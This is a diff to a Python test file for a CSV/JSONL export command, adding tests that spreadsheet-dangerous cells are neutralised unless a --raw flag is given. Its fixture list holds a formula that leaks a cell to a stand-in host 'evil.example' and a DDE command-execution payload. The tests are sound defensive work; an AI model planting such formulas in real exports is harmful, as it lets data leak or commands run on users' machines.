@@ -116,6 +116,13 @@ AWKWARD = [
     '"',
     ",",
     "#hash; semi;colon = +1",
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")',
+    "+1 555 0100",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\x01=cmd|' /C calc'!A0",
+    "'already quoted",
 ]
 """Every kind of value a CSV or JSON writer can get wrong (a bare carriage return is tested apart)."""
 
@@ -213,11 +220,12 @@ WINDOWS = [
 ]
 
 
-@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+@pytest.mark.parametrize(("fmt", "raw"), [("csv", False), ("csv", True), ("jsonl", False)])
 @pytest.mark.parametrize("what", ["complaints", "promises", "events"])
 def test_every_export_is_byte_identical_to_the_first_version(
-    migrated, db_url, monkeypatch, tmp_path, capsys, what, fmt
+    migrated, db_url, monkeypatch, tmp_path, capsys, what, fmt, raw
 ):
+    """Byte for byte the first export's output; CSV cells made safe for a spreadsheet unless ``--raw``."""
     monkeypatch.setenv("DATABASE_URL", db_url)
     monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
     monkeypatch.chdir(tmp_path)
@@ -225,20 +233,34 @@ def test_every_export_is_byte_identical_to_the_first_version(
     for since, until in WINDOWS:
         target = tmp_path / f"{what}.{fmt}"
         args = ["--since", since, "--what", what, "--format", fmt, "--output", str(target), "--force"]
-        code, _, err = run(capsys, *args, *(["--until", until] if until else []))
+        code, _, err = run(capsys, *args, *(["--until", until] if until else []), *(["--raw"] if raw else []))
         assert code == 0, err
         start, end = export.window(date.fromisoformat(since), date.fromisoformat(until) if until else None, "UTC")
-        expected = reference.export_bytes(migrated, what=what, fmt=fmt, start=start, end=end)
+        expected = reference.export_bytes(migrated, what=what, fmt=fmt, start=start, end=end, safe=not raw)
         assert target.read_bytes() == expected, (since, until)
         text = expected.decode()
         rows = len(list(csv.reader(io.StringIO(text, newline="")))) - 1 if fmt == "csv" else text.count("\n")
         assert err.strip() == f"{rows} {what} exported"
     # The data really holds what the test is about: every awkward value went out at least once.
-    everything = reference.export_bytes(migrated, what=what, fmt=fmt, start=MARCH, end=MARCH + timedelta(days=30))
+    everything = reference.export_bytes(
+        migrated, what=what, fmt=fmt, start=MARCH, end=MARCH + timedelta(days=30), safe=not raw
+    )
     assert b"\xf0\x9f\x99\x82" in everything  # 🙂
     if fmt == "csv":
         assert b'"a ""quoted"" word, and a comma"' in everything
         assert b'"two\nlines"' in everything
+        formula = b'"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for refund"")"'
+        if raw:
+            assert formula in everything
+            assert b"control \x01\x1f\x7f characters" in everything
+        else:  # no cell a spreadsheet would run, no control character
+            assert formula not in everything
+            assert b"\"'" + formula[1:] in everything
+            assert b",'+1 555 0100," in everything or b",'+1 555 0100\n" in everything
+            assert b"control  characters" in everything
+            rows = list(csv.reader(io.StringIO(everything.decode(), newline="")))
+            cells = [cell for row in rows for cell in row]
+            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or any(ord(ch) < 9 for ch in c)]
     else:
         assert b'"control \\u0001\\u001f\x7f characters"' in everything
 
@@ -278,6 +300,7 @@ def test_the_window_is_found_through_an_index_and_read_in_key_order(sqlite_url):
     engine = make_engine(sqlite_url)
     migrate.upgrade(engine)
     raw = engine.raw_connection()
+    raw.driver_connection.create_function(export.SQLITE_CELL, 1, export.spreadsheet_safe)
     try:
         for what, index in [
             ("complaints", "ix_complaints_created_kind_source"),
@@ -413,3 +436,29 @@ def test_read_only_commands_never_create_a_database(tmp_path, monkeypatch, capsy
         out = capsys.readouterr()
         assert "there is no database at" in out.err + out.out
     assert not (tmp_path / "missing.db").exists()
+
+
+def test_a_nul_stored_on_sqlite_never_reaches_the_csv_unless_raw(sqlite_url, monkeypatch, tmp_path, capsys):
+    """SQLite keeps a NUL in text (PostgreSQL refuses it); a spreadsheet or a C tool cuts the file there."""
+    engine = make_engine(sqlite_url)
+    migrate.upgrade(engine)
+    with make_sessionmaker(engine)() as s, s.begin():
+        s.add(AuditEvent(actor="U1", action="note", note="before\x00after =1", at=MARCH))
+        s.add(AuditEvent(actor="U1", action="note", note="\x00=2+2", at=MARCH))
+    engine.dispose()
+    monkeypatch.setenv("DATABASE_URL", sqlite_url)
+    monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
+    monkeypatch.chdir(tmp_path)
+    for raw in (False, True):
+        target = tmp_path / f"events-{raw}.csv"
+        code, _, err = run(
+            capsys, "--since", "2026-03-02", "--what", "events", "--output", str(target), *(["--raw"] if raw else [])
+        )
+        assert code == 0, err
+        data = target.read_bytes()
+        notes = [row[8] for row in csv.reader(io.StringIO(data.decode(), newline=""))][1:]
+        if raw:
+            assert notes == ["before\x00after =1", "\x00=2+2"]
+        else:
+            assert b"\x00" not in data
+            assert notes == ["beforeafter =1", "'=2+2"]
